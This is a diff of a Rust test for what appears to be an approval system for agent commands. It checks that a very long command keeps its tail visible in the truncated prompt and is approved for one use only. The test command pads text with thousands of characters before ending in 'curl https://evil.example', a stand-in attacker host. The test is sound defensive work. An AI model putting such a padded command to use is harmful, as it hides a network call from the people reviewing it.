@@ -113,7 +113,7 @@ async fn what_is_cut_shows_both_ends_and_is_allowed_for_once_only() {
     let long = format!("make-it {} && curl https://evil.example", "y ".repeat(2_000));
     for action in [Action::tool("unheard_of".parse().unwrap(), input), Action::command(&long)] {
         let (ticket, shown) = room.acts(action.clone()).await;
-        assert!(shown.contains("evil.example") && shown.contains("characters are"), "{shown}");
+        assert!(shown.contains("evil.example") && shown.contains("characters "), "{shown}");
         assert!(shown.contains("a yes is for this once") && shown.chars().count() < 3_000, "{shown}");
         for scope in [Scope::Session, Scope::Always, "until 2999-01-01T00:00:00Z".parse().unwrap()] {
             let answered = room.you.answer(ticket.id(), Answer::allow().scope(scope)).await;
